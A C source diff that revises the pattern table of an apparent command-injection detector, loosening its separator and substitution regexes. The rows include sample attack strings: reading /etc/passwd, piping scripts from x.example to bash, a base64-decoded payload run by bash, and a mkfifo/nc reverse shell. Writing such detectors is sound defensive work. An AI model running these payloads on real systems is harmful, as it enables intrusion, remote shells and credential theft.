@@ -307,14 +307,10 @@ static void itself(bawn_probe *p, size_t end)       /* the row says it all */
 }
 
 #define ROW(regex, hit, miss) { regex, 0, BAWN_P_TRIGGER, 0.95f, "*", hit, miss }
-#define COMMANDS "(?:cat |type |whoami|id|ls|dir|pwd|ifconfig|ipconfig|netstat|env|printenv|hostname|ps|uname|sleep |ping |" \
-    "nslookup|wget |curl |nc |ncat|bash|sh|/bin/|/usr/bin/|python|perl|php|chmod|useradd|passwd|net |cmd|powershell|mkfifo|dd |mkfs|" \
-    "crontab|touch |eval |reboot|shutdown|fetch |rm |sudo )"
 static const bawn_pattern patterns[] = {
-    ROW("[;|&][ \\t]{0,3}" COMMANDS, "127.0.0.1; cat /etc/passwd", "cd build && ls -la; git status | cat README"),
-    ROW("^[;|&]{1,2}[ \\t]{0,3}" COMMANDS, "| whoami", "| id | name |"),
-    ROW("\\$\\([ ]{0,2}" COMMANDS, "report$(whoami).txt", "USER=$(whoami) and $(document).ready"),
-    ROW("`[ ]{0,2}" COMMANDS, "file`id`.txt", "Run `ls -la` and then `cat README.md`"),
+    ROW("[;|&][ \\t]{0,3}[a-z/]", "127.0.0.1; cat /etc/passwd", "cd build && ls -la; git status | cat README"),
+    ROW("\\$\\([ ]{0,2}[a-z/]", "report$(whoami).txt", "USER=$(whoami) and $(document).ready"),
+    ROW("`[ ]{0,2}[a-z/]", "file`id`.txt", "Run `ls -la` and then `cat README.md`"),
     ROW("curl\\b", "curl -s http://x.example/i.sh | sudo bash", "curl https://x.example/a.json | jq ."),
     ROW("wget\\b", "wget -qO- http://x.example/i.sh | sh", "wget https://x.example/a.tgz && tar xf a.tgz"),
     ROW("base64[ ]{1,2}(?:-d|--decode|-D)\\b", "echo aWQK | base64 -d | bash", "base64 -d file | less"),
@@ -329,7 +325,7 @@ static const bawn_pattern patterns[] = {
     ROW("mkfifo /[^\\n]{1,80}\\bnc ", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 99 > /tmp/f", "mkfifo /tmp/f; cat /tmp/f"),
 };
 static void (*const readers[])(bawn_probe *, size_t end) = {
-    separator, separator, substitution, substitution, piped, piped, piped, device, netcat, one_liner, encoded, downloaded,
+    separator, substitution, substitution, piped, piped, piped, device, netcat, one_liner, encoded, downloaded,
     itself, itself, itself
 };
 _Static_assert(BAWN_COUNT(readers) == BAWN_COUNT(patterns), "a reader for each row");
